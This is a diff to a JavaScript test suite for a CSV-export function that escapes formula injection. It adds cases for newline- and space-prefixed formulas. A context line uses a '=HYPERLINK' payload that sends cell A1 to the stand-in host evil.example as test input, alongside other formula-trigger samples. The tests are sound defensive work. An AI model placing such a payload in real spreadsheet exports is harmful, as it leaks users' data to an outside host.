@@ -17,6 +17,10 @@ describe('export formats', () => {
     expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
     for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx']) expect(csvField(s)).toBe(`'${s}`);
     expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('\n=1+1')).toBe(`"'\n=1+1"`);
+    expect(csvField(' =1+1')).toBe(`' =1+1`);
+    expect(csvField('  @SUM(A1)')).toBe(`'  @SUM(A1)`);
+    expect(csvField(' plain')).toBe(' plain');
     expect(csvField('a=b')).toBe('a=b');
   });
 
